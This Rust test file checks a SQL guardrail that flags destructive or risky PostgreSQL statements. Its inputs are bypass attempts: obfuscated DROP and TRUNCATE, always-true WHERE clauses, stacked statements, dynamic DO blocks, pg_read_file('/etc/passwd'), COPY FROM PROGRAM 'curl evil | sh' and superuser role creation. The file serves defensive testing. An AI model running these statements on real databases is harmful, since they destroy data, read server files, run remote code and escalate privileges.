//! Every bypass class from the guardrail issue, in several spellings each.

use crate::harness::{run, Case, E::*};

#[test]
fn drops_and_truncates_in_any_spelling() {
    const T: &[Case] = &[
        (
            "DROP TABLE users",
            &[
                Class("ddl"),
                Command("DROP TABLE"),
                Drop("table", "public.users"),
            ],
        ),
        ("drop table users", &[Drop("table", "public.users")]),
        ("DrOp TaBlE \"users\"", &[Drop("table", "public.users")]),
        (
            "/* harmless */ DROP /* really */ TABLE users -- done",
            &[Drop("table", "public.users")],
        ),
        (
            "DROP TABLE IF EXISTS app.users, logs CASCADE",
            &[Drop("table", "app.users"), Drop("table", "public.logs")],
        ),
        (
            "DROP TABLE U&\"d\\0072op\"",
            &[Drop("table", "public.drop")],
        ),
        (
            "DROP TABLE U&\"us\\0065rs\"",
            &[Drop("table", "public.users")],
        ),
        ("DROP SCHEMA app CASCADE", &[Drop("schema", "app")]),
        ("DROP DATABASE prod", &[Drop("database", "prod")]),
        ("DROP VIEW v", &[Drop("view", "public.v")]),
        (
            "DROP MATERIALIZED VIEW mv",
            &[Drop("materialized view", "public.mv")],
        ),
        ("DROP INDEX CONCURRENTLY i", &[Drop("index", "public.i")]),
        ("DROP FUNCTION f(int)", &[Drop("function", "public.f")]),
        (
            "TRUNCATE users",
            &[
                Command("TRUNCATE TABLE"),
                Truncate("public.users"),
                Writes("public.users"),
            ],
        ),
        (
            "truncate table ONLY app.users RESTART IDENTITY",
            &[Truncate("app.users")],
        ),
        (
            "ALTER TABLE users DROP COLUMN email",
            &[Command("ALTER TABLE"), Drop("column", "public.users.email")],
        ),
        (
            "alter table users drop constraint users_pkey",
            &[Drop("constraint", "public.users.users_pkey")],
        ),
        (
            "ALTER TABLE users ADD COLUMN note text",
            &[Command("ALTER TABLE"), Writes("public.users"), NotOpaque],
        ),
    ];
    run(T);
}

#[test]
fn unfiltered_updates_and_deletes() {
    const T: &[Case] = &[
        ("DELETE FROM users", &[Class("write"), Where(Some(false)), Writes("public.users")]),
        ("UPDATE users SET admin = true", &[Where(Some(false)), Column("public.users", "admin")]),
        ("DELETE FROM users WHERE 1=1", &[Where(Some(true)), Taut(true)]),
        ("DELETE FROM users WHERE true", &[Taut(true)]),
        ("DELETE FROM users WHERE 'a'='a'", &[Taut(true)]),
        ("DELETE FROM users WHERE id = id", &[Taut(true)]),
        ("DELETE FROM users WHERE id = 5 OR TRUE", &[Taut(true)]),
        ("DELETE FROM users WHERE NOT false", &[Taut(true)]),
        ("DELETE FROM users WHERE 1 < 2", &[Taut(true)]),
        ("UPDATE users SET x = 1 WHERE x IS NOT NULL OR true", &[Taut(true)]),
        ("UPDATE users SET x = 1 WHERE (1=1)", &[Taut(true)]),
        ("DELETE FROM users WHERE 't'::boolean", &[Taut(true)]),
        ("DELETE FROM users WHERE $1", &[Taut(true)]),
        ("DELETE FROM users WHERE x IS NULL OR x IS NOT NULL", &[Taut(true)]),
        // DML hidden in CTEs, nested CTEs, INSERT … SELECT.
        ("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d",
            &[Class("write"), Command("SELECT"), Writes("public.users"), Where(Some(false)), NotRead("public.d")]),
        ("WITH a AS (WITH b AS (DELETE FROM users WHERE 1=1 RETURNING id) SELECT id FROM b) SELECT * FROM a",
            &[Class("write"), Writes("public.users"), Taut(true)]),
        ("WITH x AS (UPDATE accounts SET balance = 0 RETURNING id) INSERT INTO audit SELECT id FROM x",
            &[Writes("public.accounts"), Writes("public.audit"), Where(Some(false))]),
        ("SELECT * FROM (SELECT 1) s WHERE EXISTS (SELECT 1)", &[Class("read"), Benign]),
        ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", &[Command("MERGE"), Taut(true), Writes("public.t"), Reads("public.s")]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v", &[Where(Some(true)), Taut(false)]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", &[Where(Some(false))]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND t.stale THEN DELETE", &[Where(Some(true)), Taut(false)]),
        ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)", &[Where(None), Benign]),
        ("UPDATE t SET a = 1 WHERE CURRENT OF c", &[Where(Some(true)), Taut(false)]),
        // WHERE in a different statement of the string does not count.
        ("SELECT 1 WHERE 1=1; DELETE FROM users", &[Count(2), At(1), Where(Some(false))]),
    ];
    run(T);
}

#[test]
fn multi_statement_strings_are_split() {
    const T: &[Case] = &[
        (
            "SELECT 1; DROP TABLE users",
            &[
                Count(2),
                At(0),
                Benign,
                At(1),
                Drop("table", "public.users"),
            ],
        ),
        (
            "select 1;drop table users;",
            &[Count(2), At(1), Command("DROP TABLE")],
        ),
        (
            "SELECT ';DROP TABLE x'; SELECT 2",
            &[Count(2), At(0), Benign, At(1), Benign],
        ),
        (
            "BEGIN; DELETE FROM t WHERE id = 3; COMMIT",
            &[
                Count(3),
                At(0),
                Class("transaction"),
                At(1),
                Where(Some(true)),
                Taut(false),
                At(2),
                Command("COMMIT"),
            ],
        ),
        ("SELECT $$;DROP TABLE x;$$", &[Count(1), Benign]),
    ];
    run(T);
}

#[test]
fn dynamic_code() {
    const T: &[Case] = &[
        ("DO $$ BEGIN DROP TABLE users; END $$", &[Class("call_do"), Command("DO"), Drop("table", "public.users"), NotOpaque]),
        ("DO $x$ BEGIN IF true THEN DELETE FROM users; END IF; END $x$", &[Where(Some(false))]),
        ("do language plpgsql 'begin truncate logs; end'", &[Truncate("public.logs")]),
        ("DO $$ BEGIN PERFORM pg_sleep(10); END $$", &[Danger("sleep"), Func("pg_sleep")]),
        ("DO $$ DECLARE v boolean := true; BEGIN DELETE FROM users WHERE v; END $$", &[Taut(true)]),
        ("DO $$ DECLARE uid int := 3; BEGIN DELETE FROM users WHERE id = uid; END $$", &[Taut(false), Where(Some(true))]),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", &[Opaque]),
        ("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$", &[Opaque]),
        ("DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$", &[Opaque]),
        ("DO LANGUAGE plpython3u $$ import os $$", &[Opaque, Untrusted]),
        ("DO $$ BEGIN SELECT set_config('gatehouse.identity', 'root', false); END $$", &[Gatehouse]),
        ("DO $$ BEGIN SET ROLE postgres; END $$", &[RoleSwitch]),
        ("DO $$ this is not plpgsql $$", &[Opaque]),
        // Functions that run dynamic SQL or drop things when called: refused at creation.
        ("CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE users'; END $$ LANGUAGE plpgsql",
            &[Class("ddl"), Command("CREATE FUNCTION"), Opaque]),
        ("CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$",
            &[Drop("table", "public.users")]),
        ("CREATE FUNCTION f() RETURNS void AS 'DELETE FROM users' LANGUAGE sql", &[Where(Some(false))]),
        ("CREATE FUNCTION f(id int) RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM users WHERE users.id = f.id; END",
            &[Where(Some(true)), NotOpaque]),
        ("CREATE FUNCTION f() RETURNS int AS 'obj.so', 'f' LANGUAGE C", &[Untrusted]),
        ("CREATE FUNCTION f() RETURNS int AS $$ return 1 $$ LANGUAGE plpython3u", &[Untrusted, Opaque]),
        ("CREATE PROCEDURE p() LANGUAGE plperlu AS $$ 1 $$", &[Command("CREATE PROCEDURE"), Untrusted]),
        ("CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION evil()", &[Command("CREATE TRIGGER"), Func("evil"), Writes("public.users")]),
        ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM users", &[Command("CREATE RULE"), Where(Some(false)), Writes("public.users")]),
        ("PREPARE p AS DELETE FROM users", &[Command("PREPARE"), Class("write"), Prepared("p"), Where(Some(false))]),
        ("PREPARE q(int) AS SELECT * FROM users WHERE id = $1", &[Class("read"), Prepared("q"), Reads("public.users"), Benign]),
        ("EXECUTE p", &[Opaque, Executes("p")]),
        ("EXPLAIN ANALYZE DELETE FROM users", &[Command("EXPLAIN ANALYZE"), Class("write"), Where(Some(false))]),
        ("EXPLAIN DELETE FROM users", &[Command("EXPLAIN"), Class("read"), Reads("public.users"), Benign]),
        ("CALL cleanup()", &[Class("call_do"), Func("cleanup")]),
    ];
    run(T);
}

#[test]
fn dangerous_functions_anywhere() {
    const T: &[Case] = &[
        (
            "SELECT pg_read_file('/etc/passwd')",
            &[Danger("server_files"), Func("pg_read_file")],
        ),
        (
            "SELECT PG_READ_FILE('/etc/passwd')",
            &[Danger("server_files")],
        ),
        (
            "SELECT pg_catalog.pg_read_file('/etc/passwd')",
            &[Danger("server_files"), Func("pg_catalog.pg_read_file")],
        ),
        ("SELECT \"pg_read_file\"('x')", &[Danger("server_files")]),
        (
            "SELECT U&\"pg_r\\0065ad_file\"('x')",
            &[Danger("server_files")],
        ),
        (
            "SELECT length(pg_read_file('x')) > 3",
            &[Danger("server_files")],
        ),
        (
            "SELECT * FROM users WHERE name = (SELECT pg_read_binary_file('x')::text)",
            &[Danger("server_files")],
        ),
        ("SELECT * FROM pg_ls_dir('.')", &[Danger("server_files")]),
        (
            "SELECT CASE WHEN true THEN pg_stat_file('x') END",
            &[Danger("server_files")],
        ),
        (
            "SELECT coalesce(null, lo_import('/etc/passwd'))",
            &[Danger("server_files")],
        ),
        ("SELECT lo_export(1, '/tmp/x')", &[Danger("server_files")]),
        (
            "INSERT INTO t VALUES (pg_read_file('x'))",
            &[Danger("server_files")],
        ),
        (
            "UPDATE t SET a = pg_read_file('x') WHERE id = 1",
            &[Danger("server_files")],
        ),
        ("SELECT array[pg_read_file('x')]", &[Danger("server_files")]),
        ("SELECT (pg_read_file('x'))[1]", &[Danger("server_files")]),
        (
            "SELECT json_build_object('a', pg_read_file('x'))",
            &[Danger("server_files")],
        ),
        (
            "SELECT * FROM t ORDER BY pg_read_file('x')",
            &[Danger("server_files")],
        ),
        (
            "CREATE TABLE t (a text DEFAULT pg_read_file('x'))",
            &[Danger("server_files")],
        ),
        (
            "COPY t FROM PROGRAM 'curl evil | sh'",
            &[Class("copy"), Danger("programs"), Writes("public.t")],
        ),
        (
            "copy (select 1) to program 'cat > /tmp/x'",
            &[Danger("programs")],
        ),
        (
            "COPY t TO '/tmp/t.csv'",
            &[Danger("server_files"), Reads("public.t")],
        ),
        (
            "COPY t FROM STDIN",
            &[Class("copy"), Writes("public.t"), NoDanger],
        ),
        (
            "COPY (SELECT * FROM users) TO STDOUT",
            &[Reads("public.users"), NoDanger],
        ),
        (
            "SELECT dblink_exec('host=x', 'DROP TABLE users')",
            &[Danger("cross_database")],
        ),
        (
            "SELECT * FROM dblink('dbname=prod', 'select 1') AS t(a int)",
            &[Danger("cross_database")],
        ),
        ("CREATE EXTENSION postgres_fdw", &[Danger("cross_database")]),
        (
            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
            &[Danger("cross_database")],
        ),
        (
            "CREATE SERVER f FOREIGN DATA WRAPPER file_fdw",
            &[Danger("server_files")],
        ),
        ("SELECT pg_reload_conf()", &[Danger("settings")]),
        (
            "SELECT set_config(current_user || '.x', 'y', false)",
            &[Danger("settings"), Gatehouse, RoleSwitch],
        ),
        (
            "ALTER SYSTEM SET shared_buffers = '1GB'",
            &[Class("utility"), AlterSystem, Danger("settings")],
        ),
        ("SELECT pg_sleep(100)", &[Danger("sleep")]),
        ("SELECT pg_sleep_for('1 hour')", &[Danger("sleep")]),
        (
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
            &[Danger("admin"), Reads("pg_catalog.pg_stat_activity")],
        ),
        ("SELECT pg_cancel_backend(1)", &[Danger("admin")]),
        ("LOAD 'plpython3'", &[Class("utility"), Load]),
    ];
    run(T);
}

#[test]
fn privileges_and_roles() {
    const T: &[Case] = &[
        (
            "GRANT ALL ON users TO public",
            &[Class("dcl"), Command("GRANT"), Privileges],
        ),
        (
            "REVOKE SELECT ON users FROM bob",
            &[Command("REVOKE"), Privileges],
        ),
        ("GRANT admin TO bob", &[Command("GRANT ROLE"), Privileges]),
        (
            "CREATE ROLE evil SUPERUSER LOGIN",
            &[Class("dcl"), Command("CREATE ROLE"), Privileges],
        ),
        ("CREATE USER evil", &[Command("CREATE USER"), Privileges]),
        (
            "ALTER ROLE bob SUPERUSER",
            &[Command("ALTER ROLE"), Privileges],
        ),
        ("ALTER USER bob WITH PASSWORD 'x'", &[Privileges]),
        (
            "DROP ROLE bob",
            &[Command("DROP ROLE"), Privileges, Drop("role", "bob")],
        ),
        (
            "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
            &[Privileges],
        ),
        ("ALTER TABLE users OWNER TO bob", &[Privileges]),
        (
            "ALTER ROLE bob SET gatehouse.identity = 'alice'",
            &[Gatehouse, Danger("settings")],
        ),
    ];
    run(T);
}
